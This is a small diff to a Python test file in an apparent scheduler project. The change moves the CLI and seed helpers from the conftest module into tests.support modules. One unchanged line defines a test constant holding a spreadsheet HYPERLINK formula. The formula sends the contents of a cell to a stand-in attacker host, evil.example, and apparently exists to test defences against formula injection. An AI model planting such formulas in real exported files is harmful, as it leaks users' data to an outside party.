@@ -28,7 +28,8 @@ from scheduler.settings.model import Limits
 from scheduler.store.engine import open_store
 from scheduler.store.followups import AnswerInput, save_answers
 from scheduler.store.plans import find_plan_id, load_plan
-from tests.conftest import ROOT, SEED_PLAN, Cli, write_config
+from tests.support.cli import Cli, write_config
+from tests.support.seed import ROOT, SEED_PLAN
 from tests.test_planfile import HEADER, INSTRUCTIONS, seed
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'
